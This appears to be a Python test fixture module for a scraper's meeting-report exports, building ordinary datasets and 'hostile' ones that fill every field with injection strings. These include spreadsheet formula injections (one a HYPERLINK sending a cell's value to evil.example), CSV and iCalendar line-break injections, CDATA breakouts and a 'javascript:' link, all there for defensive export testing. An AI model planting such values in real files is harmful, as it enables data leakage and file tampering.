"""Exports that the tests of all formats render: everyday ones, and hostile text in every field."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from typing import Any

from scraper.meetings import Meeting
from scraper.records import Change, Link
from scraper.reports.dataset import Dataset, FoundChange, SeenRecord, WatchedPage
from tests.replacing import replace
from tests.scraper.reports import samples
from tests.scraper.reports.samples import BAUNATAL, DIETZENBACH, STEINBACH, URL, WETZLAR

PAGE = WatchedPage("leuchtturmprojekte", "Leuchtturmprojekte im Video", URL)
FIRST = datetime(2026, 3, 1, 5, 17, tzinfo=UTC)  # 6:17 in Berlin
CHANGED = datetime(2026, 7, 2, 4, 17, tzinfo=UTC)  # 6:17 there again, in summer
LINKS = (
    Link("video", "https://vimeo.com/1", "Film: Rundgang"),
    Link("video", "https://vimeo.com/2", ""),
    Link("document", "https://www.example.org/a.pdf", "Bericht"),
)
FULL = replace(
    WETZLAR,
    end_date=date(2022, 11, 8),
    attendance="hybrid",
    status="cancelled",
    description=("Erster Absatz.", "Zweiter; mit „Zeichen“, und mehr."),
    links=LINKS,
)

# Beside those of the mails: what spreadsheets take for formulas, what XML has no place for.
HOSTILE: dict[str, str] = samples.HOSTILE | {
    "plus": "+49 641 12345",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "wide": "＝1+1",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1;"klick")',
    "after_space": "\t =1+1",
    "second_header": 'a";b\r\nJahr;Ort;Programmgebiet\r\n"',
    "nonchar": "vor\ufffe\uffffnach",
    "escape": "_x0041_ und &#65; und \\u0041 und \\n und \\, und %0d%0a",
    "calendar": "Ort\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:1",
    "cdata": "]]><x/><![CDATA[ &lt; & &amp;",
    "astral": "🎉" * 20_000,
}


def stored(meeting: Meeting, number: int = 1, **values: Any) -> SeenRecord:
    """A meeting as the database has it."""
    return replace(SeenRecord(number, PAGE, meeting, FIRST), **values)


def found(*changes: Change, page: WatchedPage = PAGE) -> tuple[FoundChange, ...]:
    """Changes, newest first, a minute apart."""
    return tuple(
        FoundChange(len(changes) - place, page, CHANGED - timedelta(minutes=place), change)
        for place, change in enumerate(changes)
    )


def everyday(**values: Any) -> Dataset:
    """Four meetings: all fields, one day, only a title, gone; and changes of all kinds."""
    meetings = (
        stored(FULL, 4, changed_at=CHANGED, revision=2),
        stored(BAUNATAL, 3),
        stored(Meeting(None, "Ohne alles"), 2, missing_since=CHANGED),
        stored(STEINBACH, 1, changed_at=CHANGED, revision=1, missing_since=FIRST, removed=True),
    )
    return replace(Dataset((PAGE,), meetings, found(*samples.of_all_kinds())), **values)


def hostile(text: str) -> Dataset:
    """``text`` in every field that holds text, of meetings, links, changes and the page itself."""
    short = text[:60_000]
    page = WatchedPage(text[:200], short, "https://www.example.org/" + text[:200])
    names: dict[str, Any] = dict.fromkeys(("title", "programme", "municipality", "programme_area"), short)
    links = (
        Link("video", "https://vimeo.com/1", short),
        Link("video", short, "Film"),
        Link("document", "javascript:" + short, short),
        Link("page", "https://example.org/" + short, ""),
    )
    meeting = replace(
        DIETZENBACH, **names, status="cancelled", description=(text, "Ende."), links=links, evidence=()
    )
    changes = found(*samples.hostile_changes(text[:100_000]), page=page)
    return Dataset((page,), (stored(meeting, page=page), stored(BAUNATAL, 2)), changes)
